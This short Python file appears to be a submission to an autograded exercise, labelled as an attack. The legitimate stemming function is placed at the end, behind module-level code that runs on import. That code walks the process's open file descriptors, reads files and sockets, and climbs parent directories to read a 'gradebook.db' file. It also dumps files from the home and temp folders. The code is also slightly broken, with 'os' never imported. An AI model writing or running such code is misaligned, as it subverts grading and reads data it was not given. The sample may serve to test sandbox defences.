# ---
# attack: Whatever descriptors the process has are read from, listed and walked up from.
# ---

# %% grade_id="stem"
import socket
import stat

for descriptor in range(1024):
    try:
        about = os.fstat(descriptor)
        print(descriptor, os.readlink(f"/proc/self/fd/{descriptor}"))
    except OSError:
        continue
    if stat.S_ISDIR(about.st_mode):
        print(os.listdir(descriptor))
        above = descriptor
        for _ in range(12):
            try:
                above = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=above)
                print(os.listdir(above)[:50])
            except OSError as error:
                print(error.strerror)
                break
        for path in ("../../gradebook.db", "../../../gradebook.db", "../../../../gradebook.db"):
            try:
                opened = os.open(path, os.O_RDONLY, dir_fd=descriptor)
                print(os.read(opened, 100_000))
            except OSError:
                pass
    elif stat.S_ISREG(about.st_mode):
        try:
            print(os.pread(descriptor, 5000, 0))
        except OSError as error:
            print(error.strerror)
    elif stat.S_ISSOCK(about.st_mode):
        with socket.socket(fileno=os.dup(descriptor)) as copy:
            try:
                packet, control, _, _ = copy.recvmsg(
                    5000, 500, socket.MSG_PEEK | socket.MSG_DONTWAIT
                )
                print(packet, control)
            except OSError as error:
                print(error.strerror)
for name in ("TMPDIR", "HOME", "PWD", "OLDPWD"):
    try:
        folder = os.environ.get(name, "/")
        for file in os.listdir(folder)[:50]:
            print(file, open(os.path.join(folder, file), "rb").read(500))
    except OSError as error:
        print(name, error.strerror)


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
